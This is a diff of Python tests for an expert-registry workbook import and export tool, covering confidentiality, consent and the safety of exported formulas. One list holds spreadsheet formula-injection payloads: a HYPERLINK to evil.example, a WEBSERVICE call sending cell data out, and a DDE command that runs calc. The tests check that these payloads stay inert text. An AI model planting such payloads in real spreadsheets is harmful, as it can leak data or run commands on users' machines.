@@ -528,7 +528,7 @@ def test_a_category_chosen_from_the_drop_down_is_one_category(project, tmp_path)
     result = import_workbook(form(tmp_path / "r.xlsx", [row]), project.root, today=TODAY)
     assert result.ok, [d.text() for d in result.diagnostics]
     new = [e for e in check(project.root, today=TODAY).project.experts if e.name == "孙新"]
-    assert [e.categories for e in new] == [("mid", "postdoc")] or [len(e.categories) for e in new] == [2]
+    assert [e.categories for e in new] == [("mid", "postdoc")]
 
 
 HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/x","点击")', "=1+1", '=WEBSERVICE("http://x/?"&V5)', "=cmd|' /C calc'!A0"]
@@ -546,8 +546,9 @@ def test_no_text_becomes_a_formula_in_an_export(project, tmp_path, profile):
     assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
     book = openpyxl.load_workbook(out)
     written = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
-    shown = [t for t in HOSTILE_TEXT if t in written]
-    assert shown and all(book[FORM_SHEET].cell(1, 1).data_type != "f" for _ in shown)
+    shown = [t for t in HOSTILE_TEXT if t in written]  # in public, not the hidden expert's
+    assert set(shown) == set(HOSTILE_TEXT) if profile == "intranet" else shown
+    assert {c.data_type for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value in HOSTILE_TEXT} == {"s"}
 
 
 def _field_of(project, n: int) -> str:
@@ -556,23 +557,23 @@ def _field_of(project, n: int) -> str:
 
 
 def test_a_return_may_not_lift_confidential_and_says_what_else_it_changes(project, tmp_path):
-    project.replace("data/experts.yaml", "  name: 张院士\n", "  name: 张院士\n")  # e1 is the case
-    text = project.read("data/experts.yaml")
-    assert "  confidential: true\n" in text
+    assert "  confidential: true\n" in project.read("data/experts.yaml")
     secret = next(e for e in check(project.root, today=TODAY).project.experts if e.confidential)
     before = tree_digest(project.root)
     lifted = import_workbook(form(tmp_path / "a.xlsx", [{"专家编号": secret.id, "涉密": "否"}]), project.root, today=TODAY)
     assert [d.code for d in lifted.errors] == ["E716"] and tree_digest(project.root) == before
-    assert lifted.errors[0].location.path == "a.xlsx!登记表!" + lifted.errors[0].location.path.split("!")[-1]
+    assert lifted.errors[0].location.path == f"a.xlsx!登记表!{openpyxl.utils.get_column_letter(HEADERS.index('涉密') + 1)}4"
     renamed = import_workbook(form(tmp_path / "b.xlsx", [{"专家编号": "e1", "专家姓名": "张三"}]), project.root,
                               today=TODAY, dry_run=True)
     assert [d.code for d in renamed.diagnostics] == ["E715"] and renamed.ok
     assert "从“张院士”改为“张三”：请确认是同一位专家" in renamed.diagnostics[0].message
-    quiet = [e for e in check(project.root, today=TODAY).project.experts if not e.public_consent and not e.confidential]
-    if quiet:
-        consent = import_workbook(form(tmp_path / "c.xlsx", [{"专家编号": quiet[0].id, "同意公开": "是"}]), project.root,
-                                  today=TODAY, dry_run=True)
-        assert "E717" in [d.code for d in consent.diagnostics]
+    first_consent = project.read("data/experts.yaml").index("  public_consent: true\n")  # e1's: it withdraws it
+    text = project.read("data/experts.yaml")
+    project.write("data/experts.yaml", text[:first_consent] + "  public_consent: false\n"
+                  + text[first_consent + len("  public_consent: true\n"):])
+    consent = import_workbook(form(tmp_path / "c.xlsx", [{"专家编号": "e1", "同意公开": "是"}]), project.root,
+                              today=TODAY, dry_run=True)
+    assert [d.code for d in consent.diagnostics] == ["E717"] and consent.ok
 
 
 def test_a_workbook_is_read_by_its_content_not_its_name(project, tmp_path):
